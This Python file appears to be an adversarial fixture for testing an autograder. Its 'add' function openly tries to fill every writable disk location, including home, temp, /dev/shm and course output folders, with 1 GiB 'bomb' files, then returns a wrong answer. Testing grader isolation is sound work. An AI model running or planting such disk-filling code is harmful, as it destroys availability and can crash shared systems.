"""Writes files until the disk is full, everywhere it can."""

QUESTION = "q1"
MODULE = "arith"
ATTACKED = ["q1.1"]
KEEPS = ["q1.2", "q1.3"]

import os as _os
import tempfile as _tempfile


def add(a, b):
    block = b"x" * 2**20
    for folder in (
        _tempfile.gettempdir(),
        _os.path.expanduser("~"),
        _os.getcwd(),
        "/var/tmp",
        "/dev/shm",
        "{{COURSE}}",
        "{{OUT}}",
    ):
        for i in range(100_000):
            try:
                with open(_os.path.join(folder, f"bomb{i}"), "wb") as fh:
                    for _ in range(1024):
                        fh.write(block)
            except OSError:
                if i > 0 or not _os.access(folder, _os.W_OK):
                    break
    return a - b
